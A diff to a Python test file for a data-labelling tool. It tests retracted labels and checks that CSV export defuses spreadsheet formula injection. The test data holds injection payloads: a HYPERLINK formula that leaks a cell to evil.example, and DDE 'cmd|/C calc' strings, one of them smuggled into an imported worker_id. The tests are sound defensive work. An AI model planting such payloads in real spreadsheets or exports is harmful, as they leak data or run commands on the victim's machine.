@@ -36,6 +36,13 @@ def project(db_url, engine_for, tmp_path):
             conn.execute(text("INSERT INTO labels (item_id, label, worker_id, created_at, handout_reason) "
                               "VALUES (:i, :l, :w, CURRENT_TIMESTAMP, 'import')"), {"i": tie, "l": label, "w": worker})
         conn.execute(text("UPDATE items SET label_count = 2, done = :t WHERE id = :i"), {"i": tie, "t": True})
+        # a retracted label that disagrees with a labelled post's label: every reader must ignore
+        # it (counted, it would turn that post into a tie and add a vote to the export)
+        first, label, _, _ = labelled[0]
+        other = "Others" if label != "Others" else "Advocacy"
+        conn.execute(text("INSERT INTO labels (item_id, label, worker_id, created_at, retracted_at, retracted_by) "
+                          "VALUES (:i, :l, 'zed', CURRENT_TIMESTAMP, CURRENT_TIMESTAMP, 'zed')"),
+                     {"i": first, "l": other})
     models = tmp_path / "models"
     result = orchestrator(db_url, models).tick()
     assert result.status == "ok"
@@ -115,7 +122,7 @@ def test_status_and_cli(project, tmp_path):
     p = project
     data = status_data(p["engine"])
     assert data["counts"] == {"items": 60, "labelled": 31, "agreed": 30, "done": 31, "leased": 0,
-                              "labels": 32, "labellers": 5}
+                              "labels": 32, "labellers": 5, "retracted": 1}
     assert data["current_run_id"] == p["run"] and data["latest_ok"]["id"] == p["run"]
     agreed = sum(v["agreed"] for v in data["per_class"].values())
     assert agreed == 30 and data["per_class"]["Advocacy"]["labels"] >= 1
@@ -152,3 +159,69 @@ def test_autolabel_without_a_model_file_says_what_to_do(sqlite_url, tmp_path):
     with pytest.raises(NoModelError, match="does not hold a fitted classifier"):
         autolabel(queue_settings(sqlite_url, models_dir=str(bad)), progress=False)
     assert rows(make_engine(sqlite_url), "SELECT COUNT(*) AS n FROM model_runs")[0]["n"] == 0
+
+
+# --- safe CSV (spreadsheet formula injection) ------------------------------------------------
+
+DANGEROUS = ['=HYPERLINK("http://evil.example/?q="&A1,"click me")', "+cmd|' /C calc'!A0", "-5 degrees outside",
+             "@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed =1+1", "\rCarriage =1+1"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(db_url, engine_for, tmp_path):
+    """OWASP's advice: = + - @ tab CR at the start of a cell -> a leading ', in every column
+    (titles, bodies, a labeller named '=...'); numbers stay numbers; --raw and JSON Lines keep
+    the text as it is."""
+    from helpers import seed_items
+    from text_corpus import queue_settings
+
+    from smartlabel.queue import LabelQueue
+
+    engine = engine_for(db_url)
+    ids = seed_items(engine, len(DANGEROUS) + 1)
+    with engine.begin() as conn:
+        for item_id, title in zip(ids, DANGEROUS + ["Plain title"]):
+            conn.execute(text("UPDATE items SET title = :t, selftext = :b WHERE id = :i"),
+                         {"t": title, "b": "=1+1 in the body" if title == "Plain title" else "body", "i": item_id})
+    settings = queue_settings(db_url)
+    q = LabelQueue(db_url, '=HYPERLINK("x")', settings=settings)
+    item_id, _ = q.pop()
+    q.submit(item_id, "Advocacy")
+
+    res = export(tmp_path / "safe.csv", settings, progress=False)
+    with open(tmp_path / "safe.csv", newline="", encoding="utf-8") as fh:
+        table = {int(r["id"]): r for r in csv.DictReader(fh)}
+    for item, title in zip(ids, DANGEROUS):
+        assert table[item]["title"] == "'" + title
+    plain = table[ids[-1]]
+    assert plain["title"] == "Plain title" and plain["selftext"] == "'=1+1 in the body"
+    assert table[item_id]["human_labels"] == "'=HYPERLINK(\"x\"): Advocacy"
+    assert table[item_id]["n_labels"] == "1" and table[item_id]["confidence"] == "1.0"  # numbers untouched
+    assert res.escaped == len(DANGEROUS) + 2 and "leading '" in res.summary()
+
+    out = CliRunner().invoke(app, ["export", "--out", str(tmp_path / "raw.csv"), "--raw", "--no-progress"],
+                             env={"DATABASE_URL": db_url, "LABELS": '["Advocacy","Others","Personal Stories"]'})
+    assert out.exit_code == 0, out.output
+    with open(tmp_path / "raw.csv", newline="", encoding="utf-8") as fh:
+        raw = {int(r["id"]): r for r in csv.DictReader(fh)}
+    assert [raw[i]["title"] for i in ids[:-1]] == DANGEROUS
+    assert raw[item_id]["human_labels"] == '=HYPERLINK("x"): Advocacy' and "leading '" not in out.output
+
+    export(tmp_path / "same.jsonl", settings, progress=False)
+    lines = {r["id"]: r for r in map(json.loads, (tmp_path / "same.jsonl").read_text(encoding="utf-8").splitlines())}
+    assert [lines[i]["title"] for i in ids[:-1]] == DANGEROUS
+    assert lines[item_id]["human_labels"] == [{"worker_id": '=HYPERLINK("x")', "label": "Advocacy"}]
+
+
+def test_an_imported_worker_id_starting_with_equals_is_escaped_too(sqlite_url, tmp_path):
+    from smartlabel.importer import import_file
+    from text_corpus import queue_settings
+
+    src = tmp_path / "posts.csv"
+    src.write_text('title,selftext,label,worker_id\nfirst post,body,Advocacy,"=cmd|\' /C calc\'!A0"\n',
+                   encoding="utf-8")
+    settings = queue_settings(sqlite_url)
+    import_file(src, sqlite_url, settings=settings, progress=False)
+    export(tmp_path / "out.csv", settings, progress=False)
+    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as fh:
+        (row,) = list(csv.DictReader(fh))
+    assert row["human_labels"] == "'=cmd|' /C calc'!A0: Advocacy"
